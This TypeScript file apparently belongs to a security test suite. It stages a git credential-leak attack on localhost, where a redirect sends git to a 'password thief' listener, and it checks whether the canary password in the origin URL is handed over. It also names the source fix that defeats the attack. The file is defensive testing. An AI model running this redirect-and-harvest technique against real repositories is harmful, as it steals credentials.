import { once } from 'node:events'
import { freePort, lastWords, spawnServer } from '../../runner/server.ts'
import { createSetup } from '../../runner/setup.ts'
import type { Attack } from '../stage/attack.ts'
import { startPasswordThief, startRedirect } from '../stage/listener.ts'

const password = 'canary-of-the-origin'
const asSent = Buffer.from(`me:${password}`).toString('base64')

/** Only ends a hang. */
const patienceMs = 60_000

export const originRedirect: Attack = {
  id: 'origin-redirect',
  from: 'an origin',
  tries: 'sends git to another host, which asks for the password of the origin',
  world: 'sealed',
  disarmedBy: [
    {
      file: 'src/adapters/git/origin/origin.ts',
      find: 'credential.${host}.helper',
      replace: 'credential.helper',
    },
  ],
  async run({ project }) {
    await using thief = await startPasswordThief()
    await using origin = await startRedirect(
      `http://127.0.0.1:${thief.port}/origin.git/info/refs?service=git-upload-pack`,
    )
    await using setup = await createSetup({
      seed: [{ path: 'README.md', text: 'nothing\n' }],
      workers: 1,
      runtime: 'docker',
      context: 'fresh',
      checks: [],
      modelUrl: 'http://127.0.0.1:9',
      settings: { repositoryUrl: `http://me:${password}@127.0.0.1:${origin.port}/origin.git` },
    })
    const child = await spawnServer({ ...setup, code: project }, await freePort())
    const exit = once(child, 'exit', { signal: AbortSignal.timeout(patienceMs) })
    await exit.finally(() => child.kill('SIGTERM'))
    if (thief.asked === 0)
      throw new Error(`git did not follow the redirect: ${await lastWords(setup)}`)
    return thief.given.some((each) => each.includes(asSent)) ? ['the password of the origin'] : []
  },
}
